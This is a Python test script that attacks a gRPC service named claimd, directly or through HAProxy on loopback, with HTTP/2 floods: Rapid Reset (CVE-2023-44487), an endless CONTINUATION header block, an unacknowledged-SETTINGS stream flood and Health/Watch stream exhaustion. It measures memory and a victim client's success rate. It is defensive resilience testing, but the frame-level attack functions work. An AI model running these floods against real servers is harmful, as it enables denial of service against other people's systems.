#!/usr/bin/env python3
"""HTTP/2 flood tests: one attack against claimd, either directly or through
HAProxy started with the shipped deploy/haproxy/haproxy.cfg (only its
certificate path and ports replaced by temporary, loopback ones).

While the attack runs, a victim client on another source address
(127.0.0.2) calls grpc.health.v1.Health/Check over its own connection, and
the resident memory of claimd (and HAProxy) is sampled every 50 ms.

  flood_test.py --claimd build/service/claimd --attack rapid_reset \\
      --setup proxy --haproxy_cfg deploy/haproxy/haproxy.cfg

Attacks (each bounded by --seconds and a number of connections):
  rapid_reset    HEADERS then RST_STREAM in a loop (CVE-2023-44487)
  continuation   a header block that never ends (CONTINUATION flood)
  no_settings_ack  a client that never acknowledges SETTINGS opens 5,000
                 Health/Watch streams on one connection
  health_watch   many connections, each opening as many Health/Watch streams
                 as it may

Exit status 0 when every bound held; the figures are printed either way
(one RESULT line). The bounds are in BOUNDS below and in README.md.
"""

import argparse
import os
import shutil
import sys
import tempfile
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw  # noqa: E402
from harness import rss_mib, start_claimd, start_haproxy  # noqa: E402


# Behind the proxy (the supported exposure path): resident memory never above
# these during any attack, and the victim's calls succeed at least this often.
BOUNDS = {
    "claimd_mib_behind_proxy": 160,
    "haproxy_mib": 256,
    "victim_success": 0.999,
}
# claimd started directly (no proxy) by these tests runs with this ceiling
# (--max_rss_mib); it may not hold more than 1.5x of it plus what grows
# between two of its 100 ms samples.
DIRECT_MAX_RSS_MIB = 256
DIRECT_SLACK_MIB = 128
# Exit code of claimd when it stops itself over its memory ceiling.
EXIT_MEMORY = 3
SAFETY_KILL_MIB = 2048  # the test kills a claimd past this (never expected)


class Sampler(threading.Thread):
    """Peak resident memory of some processes, every 50 ms."""

    def __init__(self, procs):
        super().__init__(daemon=True)
        self.procs = procs
        self.peak = {p.name: 0.0 for p in procs}
        self.stop_event = threading.Event()

    def run(self):
        while not self.stop_event.wait(0.05):
            for proc in self.procs:
                if proc.proc.poll() is not None:
                    continue
                mib = rss_mib(proc.proc.pid)
                self.peak[proc.name] = max(self.peak[proc.name], mib)
                if mib > SAFETY_KILL_MIB:
                    print(f"{proc.name} passed {SAFETY_KILL_MIB} MiB: killing it",
                          flush=True)
                    proc.proc.kill()


class Victim(threading.Thread):
    """Health/Check calls in a loop (about 100/s) over one connection from
    127.0.0.2; a broken connection is replaced (its call counts as failed)."""

    def __init__(self, target):
        super().__init__(daemon=True)
        self.target = target
        self.ok = 0
        self.failed = 0
        self.stop_event = threading.Event()

    def run(self):
        connection = None
        while not self.stop_event.is_set():
            try:
                if connection is None or connection.closed.is_set():
                    connection = h2raw.Connection(self.target)
                stream_id = connection.start_call(h2raw.HEALTH_CHECK,
                                                  self.target.tls)
                success = connection.wait_call(stream_id, timeout=10)
            except OSError:
                success, connection = False, None
            if success:
                self.ok += 1
            else:
                self.failed += 1
                if connection is not None:
                    connection.close()
                connection = None
            self.stop_event.wait(0.01)
        if connection is not None:
            connection.close()


def new_connection(target, **kwargs):
    try:
        return h2raw.Connection(target, **kwargs)
    except OSError:
        return None


def attack_rapid_reset(target, stop, stats):
    connections = 0
    while not stop.is_set() and connections < 500:
        conn = new_connection(target)
        connections += 1
        if conn is None:
            stop.wait(0.05)
            continue
        headers = h2raw.request_headers("/claims.v1.ClaimService/GetClaim",
                                        target.tls)
        try:
            block = conn.encode(headers)
            first = True
            while not stop.is_set() and not conn.closed.is_set():
                batch = []
                for _ in range(100):
                    stream_id = conn.new_stream_id()
                    if stream_id > 0x7FFFFFF0:
                        break
                    batch.append(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS,
                                             stream_id, block))
                    batch.append(h2raw.frame(h2raw.RST_STREAM, 0, stream_id,
                                             b"\x00\x00\x00\x08"))  # CANCEL
                    if first:  # later blocks reuse the indexed form
                        block, first = conn.encode(headers), False
                conn.send(b"".join(batch))
                stats["streams"] = stats.get("streams", 0) + len(batch) // 2
        except OSError:
            pass
        conn.close()
    stats["connections"] = connections


def literal_header(name, value):
    """HPACK literal header field without indexing, new name, no Huffman."""
    def integer(n, prefix_bits):
        limit = (1 << prefix_bits) - 1
        if n < limit:
            return bytes([n])
        out, n = [limit], n - limit
        while n >= 128:
            out.append((n % 128) + 128)
            n //= 128
        out.append(n)
        return bytes(out)
    return (b"\x00" + integer(len(name), 7) + name + integer(len(value), 7) +
            value)


def attack_continuation(target, stop, stats):
    connections = 0
    chunk = b"".join(literal_header(b"x-flood-%d" % i, b"v" * 2000)
                     for i in range(8))
    while not stop.is_set() and connections < 500:
        conn = new_connection(target)
        connections += 1
        if conn is None:
            stop.wait(0.05)
            continue
        try:
            stream_id = conn.new_stream_id()
            block = conn.encode(h2raw.request_headers(
                "/claims.v1.ClaimService/GetClaim", target.tls))
            conn.send(h2raw.frame(h2raw.HEADERS, 0, stream_id, block))
            while not stop.is_set() and not conn.closed.is_set():
                conn.send(h2raw.frame(h2raw.CONTINUATION, 0, stream_id, chunk) * 8)
                stats["bytes"] = stats.get("bytes", 0) + 8 * len(chunk)
        except OSError:
            pass
        conn.close()
    stats["connections"] = connections


def attack_no_settings_ack(target, stop, stats):
    conn = new_connection(target, ack_settings=False)
    if conn is None:
        stats["error"] = "cannot connect"
        return
    peak_open = 0
    try:
        for i in range(5000):
            if stop.is_set() or conn.closed.is_set():
                break
            conn.start_call(h2raw.HEALTH_WATCH, target.tls)
            if i % 100 == 99:
                peak_open = max(peak_open, conn.counts()[0])
    except OSError:
        pass
    while not stop.wait(0.1):
        peak_open = max(peak_open, conn.counts()[0])
    open_, ended, reset = conn.counts()
    stats.update(peak_open_streams=max(peak_open, open_), ended=ended,
                 reset=reset, connection_closed=conn.closed.is_set())
    conn.close()


# claimd's --max_concurrent_streams (default). gRPC 1.51 treats a stream
# opened past the limit it has seen acknowledged as a connection error and
# closes the whole connection; whether the client's ACK arrives before its
# 251st stream is a race, so the attack stays within the limit.
MAX_CONCURRENT_STREAMS = 250


def attack_health_watch(target, stop, stats):
    connections = []
    peak_open = 0
    for _ in range(40):
        if stop.is_set():
            break
        conn = new_connection(target)
        if conn is None:
            continue
        connections.append(conn)
        try:
            for _ in range(MAX_CONCURRENT_STREAMS):
                if conn.closed.is_set():
                    break
                conn.start_call(h2raw.HEALTH_WATCH, target.tls)
        except OSError:
            pass  # closed by the server: the next connection goes on
        peak_open = max(peak_open, sum(c.counts()[0] for c in connections))
    while not stop.wait(0.1):
        peak_open = max(peak_open, sum(c.counts()[0] for c in connections))
    stats.update(peak_open_streams=peak_open, connections=len(connections),
                 closed_by_server=sum(1 for c in connections
                                      if c.closed.is_set()),
                 refused=sum(c.counts()[1] + c.counts()[2] for c in connections))
    for conn in connections:
        conn.close()


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "continuation": attack_continuation,
    "no_settings_ack": attack_no_settings_ack,
    "health_watch": attack_health_watch,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--claimd", required=True)
    parser.add_argument("--haproxy", default=shutil.which("haproxy") or
                        "/usr/sbin/haproxy")
    parser.add_argument("--haproxy_cfg")
    parser.add_argument("--attack", choices=sorted(ATTACKS), required=True)
    parser.add_argument("--setup", choices=["direct", "proxy"], required=True)
    parser.add_argument("--seconds", type=float, default=8)
    args = parser.parse_args()

    failures = []
    with tempfile.TemporaryDirectory(prefix="claimd-flood-") as workdir:
        # Direct: claimd as exposed without the proxy, with its own ceilings.
        # Behind the proxy: claimd as the shipped deployments run it.
        extra = ([f"--max_rss_mib={DIRECT_MAX_RSS_MIB}"]
                 if args.setup == "direct" else [])
        claimd, claimd_port = start_claimd(
            args.claimd, os.path.join(workdir, "data"), extra)
        procs = [claimd]
        haproxy = None
        if args.setup == "proxy":
            haproxy, port = start_haproxy(args.haproxy, args.haproxy_cfg,
                                          workdir, claimd_port)
            procs.append(haproxy)
            attacker = h2raw.Target(port, tls=True)
            victim_target = h2raw.Target(port, tls=True, source="127.0.0.2")
        else:
            attacker = h2raw.Target(claimd_port)
            victim_target = h2raw.Target(claimd_port, source="127.0.0.2")
        baseline = {p.name: rss_mib(p.proc.pid) for p in procs}
        sampler = Sampler(procs)
        sampler.start()
        victim = Victim(victim_target)
        victim.start()
        stop = threading.Event()
        stats = {}
        attack = threading.Thread(target=ATTACKS[args.attack],
                                  args=(attacker, stop, stats), daemon=True)
        attack.start()
        stop.wait(args.seconds)
        stop.set()
        attack.join(30)
        victim.stop_event.set()
        victim.join(10)
        # After the attack: claimd (and the proxy) still answer.
        after_ok = False
        try:
            conn = h2raw.Connection(victim_target)
            after_ok = conn.wait_call(
                conn.start_call(h2raw.HEALTH_CHECK, victim_target.tls), 10)
            conn.close()
        except OSError:
            pass
        sampler.stop_event.set()
        sampler.join()
        claimd_exit = claimd.proc.poll()
        for proc in procs:
            proc.stop()

        total = victim.ok + victim.failed
        success = victim.ok / total if total else 0.0
        figures = " ".join(f"{k}={v}" for k, v in sorted(stats.items()))
        print(f"RESULT attack={args.attack} setup={args.setup} "
              f"seconds={args.seconds:g} "
              + " ".join(f"{n}_baseline_mib={baseline[n]:.0f} "
                         f"{n}_peak_mib={sampler.peak[n]:.0f}" for n in baseline)
              + f" victim_ok={victim.ok} victim_failed={victim.failed} "
              f"victim_success={success:.4f} answered_after={after_ok} "
              f"claimd_exit={claimd_exit} {figures}", flush=True)

        # A flood that never reached the server proves nothing: every bound
        # below would hold without an attack.
        activity = {
            "rapid_reset": stats.get("streams", 0),
            "continuation": stats.get("bytes", 0),
            "no_settings_ack": stats.get("peak_open_streams", 0) +
            stats.get("ended", 0) + stats.get("reset", 0),
            "health_watch": stats.get("peak_open_streams", 0) +
            stats.get("refused", 0),
        }[args.attack]
        if "error" in stats or activity == 0:
            failures.append("the attack never reached the server: "
                            + stats.get("error", "no stream or byte was sent"))
        if min(sampler.peak.values()) <= 0:
            failures.append("a process's memory could not be read")
        if args.setup == "proxy":
            if sampler.peak["claimd"] > BOUNDS["claimd_mib_behind_proxy"]:
                failures.append("claimd's memory passed its bound")
            if sampler.peak["haproxy"] > BOUNDS["haproxy_mib"]:
                failures.append("haproxy's memory passed its bound")
            if total < 20 or success < BOUNDS["victim_success"]:
                failures.append("the victim's success rate fell below 99.9 %")
            if claimd_exit is not None or not after_ok:
                failures.append("claimd or haproxy stopped answering")
            if args.attack == "no_settings_ack" and stats.get(
                    "peak_open_streams", 0) > 100:
                failures.append("more streams than tune.h2.max-concurrent-streams")
        else:
            ceiling = DIRECT_MAX_RSS_MIB * 1.5 + DIRECT_SLACK_MIB
            if sampler.peak["claimd"] > ceiling:
                failures.append(f"claimd held more than {ceiling:.0f} MiB")
            if claimd_exit is not None and claimd_exit != EXIT_MEMORY:
                failures.append(f"claimd exited with {claimd_exit}")
            if claimd_exit == EXIT_MEMORY and claimd.wait_for_line(
                    r"memory ceiling", 1) is None:
                failures.append("claimd exited without saying why")
            if claimd_exit is None and not after_ok:
                failures.append("claimd is running but does not answer")
            if args.attack in ("no_settings_ack", "health_watch") and \
                    stats.get("peak_open_streams", 0) > 1000:
                failures.append("more Health/Watch streams than "
                                "--max_health_watchers")
        if failures:
            print("FAILED: " + "; ".join(failures))
            print("claimd's log (last 20 lines):\n" +
                  "\n".join(claimd.lines[-20:]))
            return 1
        return 0


if __name__ == "__main__":
    sys.exit(main())
